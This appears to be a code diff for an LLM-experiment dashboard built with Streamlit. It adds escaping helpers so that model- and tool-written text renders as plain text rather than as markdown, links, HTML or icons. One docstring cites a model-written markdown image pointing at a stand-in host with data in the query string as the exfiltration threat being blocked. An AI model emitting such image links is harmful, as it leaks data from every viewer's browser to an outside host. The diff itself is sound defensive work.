@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import math
+import re
 from collections.abc import Callable
 from typing import Any
 
@@ -12,6 +13,72 @@ import streamlit as st
 from orchlab.analysis import is_missing
 from orchlab.figures import path_dot
 from orchlab.records import RunRecord
+
+_ALWAYS = re.compile(r"([\\`*<&|~$])|\](?=[(\[:]|\Z)|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])"
+                     r"|:(?=[A-Za-z])")
+"""Markdown's inline syntax wherever it stands: escapes, code, emphasis, HTML and autolinks
+(an opening `<` suffices), entities, tables, strikethrough, math; a `]` that would close a
+link or an image (`](`, `][`, a `]:` definition, or the text's last character, whatever a
+page writes after it: a `[95% CI 1.1, 2.0] (...)` stays as written); `_` unless inside a
+word (where it never emphasises, so `max_turns` stays as written); `:` before a name
+(Streamlit's `:red[...]` directives)."""
+_INDENT = re.compile(r"(?m)^[ \t]+")
+"""A line's indentation: four spaces would start a code block, which shows backslashes."""
+_LINE_START = re.compile(r"(?m)^(\u00a0*)(?:(>)|([#+=-])(?=[ \t#+=-]|$)|(\d+)([.)])(?=[ \t]|$))")
+"""Block syntax at the start of a line: quotes; headings, list items, setext underlines and
+rules (a marker then a space, the line's end, or more of the same: `-5 ms` and `1.54x` stay
+as written); ordered items."""
+_AFTER_PARSING = re.compile(r"(?i)(?<=https)(?=:)|(?<=http)(?=:)|(?<=www)(?=\.)|(?=@)"
+                            r"|(?<=:)(?=material|[\w+-]+:)")
+"""Where the renderer rewrites text after parsing, when escapes are already resolved: GFM
+links http:, https:, www. and an address's @; Streamlit draws `:material/x:` as an icon,
+`:streamlit:` as an image and `:smile:` as an emoji. Only a character in between stops
+them."""
+_ARROWS = re.compile(r"(?<!\S)(<->|->|<-|--|>=|<=|~=)(?!\S)")
+"""Tokens Streamlit turns into typographic arrows and signs after parsing (`->` to →)."""
+_BREAK = "\u200b"
+"""A zero-width space: invisible, and what it splits is left as written."""
+
+
+def escape_md(text: object) -> str:
+    """Text a model, a tool or someone else's file wrote, made safe to place in markdown
+    (`st.markdown`, `st.caption`, `st.error`..., widget and expander labels, `help=`
+    tooltips), where it reads as written: no image is fetched and no link, HTML, colour, icon,
+    math or emphasis is made of it. A model's `![](https://host/?d=...)` would otherwise make
+    every viewer's browser call that host.
+
+    Only characters that can start syntax get a backslash, so ids, numbers and sentences the
+    lab wrote around the text (`exp-20260101-...`, `LLM-orchestrated · terse`) come out
+    unchanged; what the renderer rewrites after parsing (bare URLs, icons, arrows) is split by
+    an invisible zero-width space. Lines keep their breaks (hard breaks) and indentation
+    (no-break spaces, never an indented code block)."""
+    lines = str(text).replace("\r\n", "\n").replace("\r", "\n")
+    kept = _ARROWS.sub(lambda m: m.group(0)[0] + _BREAK + m.group(0)[1:],
+                       _AFTER_PARSING.sub(_BREAK, lines))
+    escaped = _ALWAYS.sub(lambda m: "\\" + m.group(0), kept)
+    indented = _INDENT.sub(lambda m: "\u00a0" * len(m.group(0)), escaped)
+    blocks = _LINE_START.sub(_escape_line_start, indented)
+    return blocks.replace("\n", "  \n")
+
+
+def _escape_line_start(match: re.Match[str]) -> str:
+    indent, quote, marker, digits, delimiter = match.groups()
+    if quote or marker:
+        return f"{indent}\\{quote or marker}"
+    return f"{indent}{digits}\\{delimiter}"
+
+
+def code_md(text: object) -> str:
+    """Untrusted text as one inline code span: markdown shows a code span's content as it is
+    (no link, image, HTML or emphasis), so a path or a backend id keeps its code look. The
+    fence is longer than any run of backticks inside; line breaks become spaces (a blank line
+    would end the span's paragraph and free what follows)."""
+    flat = re.sub(r"[\r\n]+", " ", str(text))
+    if not flat.strip():
+        return escape_md(flat)
+    fence = "`" * (max((len(run) for run in re.findall(r"`+", flat)), default=0) + 1)
+    pad = " " if flat.startswith("`") or flat.endswith("`") else ""
+    return f"{fence}{pad}{flat}{pad}{fence}"
 
 
 def money(value: float | None) -> str:
@@ -81,14 +148,15 @@ def run_card(record: RunRecord, rule: str) -> None:
         st.warning("Cancelled before it finished: the spans so far are kept, and its outcome is "
                    "not counted for the form.")
     elif record.status != "ok":
-        st.error(f"{record.status} ({record.error_class}): {record.error_type}: "
-                 f"{record.error_message}")
+        st.error(escape_md(f"{record.status} ({record.error_class}): {record.error_type}: "
+                           f"{record.error_message}"))
     if record.success is None and record.status != "cancelled":
         st.info("This run's outcome is not counted for the form: it was stopped by the "
                 "environment or a cancel.")
     elif not record.success:
         emails = record.outcome.get("emails_sent")
-        detail = f"sent {emails} emails; " if emails is not None and emails != 1 else ""
+        detail = f"sent {escape_md(emails)} emails; " if emails is not None and emails != 1 \
+            else ""
         st.warning(f"Rule broken: {detail}expected {rule or 'the scenario rule'}.")
     # Two by two: four metrics in one row of a half-page column are cut ("1,82…", "unk…").
     a, b = st.columns(2)
@@ -97,9 +165,10 @@ def run_card(record: RunRecord, rule: str) -> None:
              help=f"of which {m.queued_ms:,.0f} ms waiting for a busy model" if m.queued_ms
              else None)
     b.metric("Tokens", f"{m.input_tokens + m.output_tokens:,}")
-    c.metric("Cost", money(m.cost_usd), help=f"price: {m.price_source or 'not recorded'}")
+    c.metric("Cost", money(m.cost_usd),
+             help=f"price: {escape_md(m.price_source or 'not recorded')}")
     d.metric("LLM / tool calls", f"{m.llm_calls} / {m.tool_calls}")
-    st.caption(f"Path: `{m.path or '(no steps)'}`"
+    st.caption(f"Path: {code_md(m.path or '(no steps)')}"
                + (f" · {m.retries} provider calls retried" if m.retries else ""))
     if m.path_steps:
         st.graphviz_chart(path_dot(m.path_steps))
@@ -107,7 +176,7 @@ def run_card(record: RunRecord, rule: str) -> None:
                  key=f"widgets_output_{record.run_id}", disabled=True)
     if record.outbox:
         with st.expander(f"Outbox ({len(record.outbox)} email(s), sandbox)"):
-            for message in record.outbox:
-                st.markdown(f"**To:** {message.to}  \n**Subject:** {message.subject}")
+            for message in record.outbox:  # the model wrote all of it: text, never markdown
+                st.text(f"To: {message.to}\nSubject: {message.subject}")
                 st.text(message.body)
     st.json(record.outcome, expanded=False)
